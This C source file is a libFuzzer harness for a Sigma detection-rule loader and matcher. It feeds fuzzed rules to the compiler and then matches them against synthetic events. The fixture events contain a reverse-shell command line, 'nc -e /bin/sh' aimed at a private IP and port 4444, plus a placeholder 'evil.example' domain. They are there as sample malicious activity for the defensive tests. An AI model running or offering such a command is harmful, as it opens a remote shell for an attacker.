/*
 * libFuzzer harness: the whole Sigma loader and compiler (YAML parsing,
 * metadata, modifiers, regex and CIDR compilation, conditions) on one
 * input file, then the matcher on a few events of every category when the
 * input compiled. Seeds: fuzz/corpus/fuzz_sigma_load/ (SigmaHQ rules,
 * DRL 1.1, unmodified, and rules exercising every modifier).
 */
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include "common/event.h"
#include "engine/guardrails.h"
#include "engine/ruleset.h"
#include "engine/sigma.h"

static struct rw_event *events[6];
static struct placeholders ph;

static void init(void)
{
	static const char *const actions[6] = { "exec", "create", "connect", "pipe-create",
						"dns-answer", "ptrace" };

	/* the host's protected targets once, not per input (guardrails.h);
	 * no package lists: every input costs the same */
	{
		struct guard_opts go = { .dpkg_info_dir = "" };
		struct diag d;

		diag__init(&d);
		guardrails__prepare(&go, &d);
		diag__free(&d);
	}
	placeholders__add(&ph, "admins", "root");
	placeholders__add(&ph, "admins", "adm*");
	for (int i = 0; i < 6; i++) {
		struct rw_event *ev = rw_event__new();

		if (!ev)
			abort();
		rw_event__set_cstr(ev, RW_F_EVENT_ACTION, actions[i]);
		rw_event__set_cstr(ev, RW_F_PROC_EXECUTABLE, "/usr/bin/nc");
		rw_event__set_cstr(ev, RW_F_PROC_COMMAND_LINE, "nc -e /bin/sh 10.0.0.1 4444");
		rw_event__set_cstr(ev, RW_F_PARENT_EXECUTABLE, "/bin/bash");
		rw_event__set_cstr(ev, RW_F_USER_NAME, "root");
		rw_event__set_cstr(ev, RW_F_RW_LOGIN_UID, "0");
		rw_event__set_int(ev, RW_F_PROC_PID, 4242);
		rw_event__set_cstr(ev, RW_F_FILE_PATH, "/tmp/f");
		rw_event__set_cstr(ev, RW_F_DEST_IP, "10.0.0.1");
		rw_event__set_int(ev, RW_F_DEST_PORT, 4444);
		rw_event__set_cstr(ev, RW_F_DNS_QUESTION_NAME, "evil.example");
		rw_event__add_strv(ev, RW_F_DNS_RESOLVED_IP, "10.0.0.1", 8);
		ev->strv_open = -1;
		events[i] = ev;
	}
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct ruleset_opts o = { .placeholders = &ph };
	struct ruleset *rs;
	struct diag d;

	if (!events[0])
		init();
	diag__init(&d);
	rs = ruleset__load_buffer("fuzz.yml", (const char *)data, size, &o, &d);
	if (rs)
		for (int i = 0; i < 6; i++)
			ruleset__match(rs, events[i], NULL, NULL);
	ruleset__free(rs);
	diag__free(&d);
	return 0;
}
